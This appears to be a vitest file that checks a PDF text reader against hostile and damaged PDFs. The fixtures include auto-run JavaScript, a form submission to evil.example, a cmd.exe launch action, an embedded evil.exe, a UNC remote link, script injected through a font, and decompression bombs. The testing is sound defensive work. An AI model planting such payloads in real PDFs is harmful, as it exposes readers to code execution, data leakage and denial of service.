import { deflateSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { assembled, lines, madePdf } from '../made-pdf';
import { readArticle, refusal } from '../sample-input';

const WORDS = 'Police held 12 men on Monday and took 40 phones from them.';
const good = madePdf([lines(60, 100, [WORDS])]);
const text = (pdf: Uint8Array): string => Buffer.from(pdf).toString('latin1');
const bytes = (pdf: string): Uint8Array => new Uint8Array(Buffer.from(pdf, 'latin1'));

/** A page of words whose catalogue, page or resources say more. */
function pdfWith(more: { readonly catalog?: string; readonly page?: string; readonly stream?: string; readonly objects?: readonly string[] }): Uint8Array {
  const stream = more.stream ?? `BT /F1 11 Tf 60 742 Td (${WORDS}) Tj ET`;
  return assembled([
    `<< /Type /Catalog /Pages 2 0 R ${more.catalog ?? ''} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R ${more.page ?? ''} >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    ...(more.objects ?? []),
    '<< >>',
  ]);
}

describe('a PDF that wants more than to be read gives its words alone', () => {
  test.each([
    ['a script that runs when it opens', { catalog: '/OpenAction << /S /JavaScript /JS (app.alert\\("evil"\\)) >>' }],
    ['scripts by name', { catalog: '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (this.submitForm\\("https://evil.example"\\)) >>] >> >>' }],
    ['a program to launch', { catalog: '/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c evil) >> >>' }],
    ['a page of the web to open', { page: '/AA << /O << /S /URI /URI (https://evil.example/) >> >>' }],
    ['a form that it sends', { catalog: '/AcroForm << /Fields [] /XFA (evil) >>' }],
    ['a file in it', { catalog: '/Names << /EmbeddedFiles << /Names [(evil.exe) << /Type /Filespec /F (evil.exe) >>] >> >>' }],
    ['a remote document', { page: '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) >> >>]' }],
  ])('%s', async (_, more) => {
    const article = await readArticle('a.pdf', pdfWith(more));
    expect(article.text).toBe(WORDS);
  });

  test('a font that is a program', async () => {
    const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Evil /FontMatrix [1 2 3 4 5 (1\\); alert\\(1\\)//)] /FirstChar 0 /LastChar 1 /Widths [1 1] >>';
    const pdf = text(pdfWith({})).replace('<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>', font);
    // The table of offsets is wrong now, which a reader mends.
    expect((await readArticle('a.pdf', bytes(pdf))).text).toContain('Police held 12 men');
  });

  test('a picture of 30,000 × 30,000', async () => {
    const picture = '<< /Type /XObject /Subtype /Image /Width 30000 /Height 30000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Length 4 >>\nstream\nabcd\nendstream';
    const pdf = pdfWith({ stream: `q 500 0 0 500 0 0 cm /I Do Q BT /F1 11 Tf 60 742 Td (${WORDS}) Tj ET`, page: '', objects: [picture] });
    expect((await readArticle('a.pdf', bytes(text(pdf).replace('/Font << /F1 4 0 R >>', '/XObject << /I 6 0 R >> /Font << /F1 4 0 R >>')))).text).toBe(WORDS);
  });
});

describe('a damaged PDF', () => {
  test.each([
    ['with a table of references that points nowhere', text(good).replace(/\d{10} 00000 n/g, '9999999999 00000 n')],
    ['without its table', text(good).replace(/xref[\s\S]*?trailer/, 'trailer')],
    ['that says it has a million pages', text(good).replace('/Count 1', '/Count 1000000')],
    ['with bytes before it', `junk before\n${text(good)}`],
    ['whose table says that it is its own predecessor', text(good).replace('/Root', `/Prev ${text(good).lastIndexOf('xref\n0')} /Root`)],
  ])('%s is mended and read', async (_, pdf) => {
    expect((await readArticle('a.pdf', bytes(pdf))).text).toBe(WORDS);
  });

  test.each([
    ['is cut in half', text(good).slice(0, 300), 'damaged'],
    ['has pages that hold each other', text(assembled(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [3 0 R] /Count 2 >>', '<< /Type /Pages /Kids [2 0 R] /Count 2 /Parent 2 0 R >>', '<< >>'])), 'damaged'],
    ['says that it has minus one page', text(good).replace('/Count 1', '/Count -1'), 'no-text'],
    ['has no page', text(assembled(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 0 >>', '<< >>'])), 'no-text'],
    ['is only its first line', '%PDF-1.7\n', 'damaged'],
  ])('that %s is refused plainly', async (_, pdf, code) => {
    const failure = await refusal('a.pdf', bytes(pdf));
    expect(failure.code).toBe(code);
    expect(failure.hint).toMatch(/\.$/);
  });

  test('whose stream has no end is read as far as it goes, or refused', async () => {
    const pdf = text(good).replace(/\/Length \d+/, '/Length 99999999').replace('endstream', '');
    const outcome = await readArticle('a.pdf', bytes(pdf)).then(({ text: words }) => words, (error: Error) => error.message);
    expect(outcome).toMatch(/^Police held|damaged|no text/);
  });
});

describe('a PDF that grows when it is unpacked', () => {
  const packed = (stream: Buffer, filter = '/Filter /FlateDecode'): Uint8Array => {
    const objects = [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>',
      '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
      `<< /Length ${stream.length} ${filter} >>\nstream\n${stream.toString('latin1')}\nendstream`,
      '<< >>',
    ];
    return assembled(objects);
  };

  test('into a stream of text without end is refused', async () => {
    const page = `BT /F1 11 Tf 60 742 Td ${'(words and words and words and words) Tj 0 -0.01 Td '.repeat(20_000)} ET`;
    expect((await refusal('a.pdf', packed(deflateSync(Buffer.from(page))))).code).toBe('too-large');
  });

  test('many times over, filter in filter, is refused or read as nothing', async () => {
    let stream: Buffer = Buffer.alloc(20_000_000);
    for (let i = 0; i < 3; i++) stream = deflateSync(stream);
    const filter = '/Filter [/FlateDecode /FlateDecode /FlateDecode]';
    expect(['no-text', 'too-large', 'damaged']).toContain((await refusal('a.pdf', packed(stream, filter))).code);
  });
});

test('a PDF with a password says so', async () => {
  const locked = text(pdfWith({})).replace('/Root 1 0 R', `/Root 1 0 R /ID [<00><00>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${'41'.repeat(32)}> /U <${'42'.repeat(32)}> >>`);
  const failure = await refusal('a.pdf', bytes(locked));
  expect(failure).toMatchObject({ code: 'password', message: 'The PDF is protected with a password.' });
});
